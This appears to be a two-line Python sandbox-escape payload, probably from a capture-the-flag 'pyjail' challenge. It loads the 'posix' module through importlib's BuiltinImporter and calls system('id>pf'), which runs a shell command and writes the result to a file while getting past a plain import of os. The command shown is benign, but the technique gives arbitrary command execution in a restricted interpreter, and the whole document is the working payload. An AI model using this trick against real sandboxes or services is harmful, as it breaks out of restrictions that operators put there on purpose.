import importlib.abc
importlib.abc.machinery.BuiltinImporter.load_module("posix").system("id>pf")
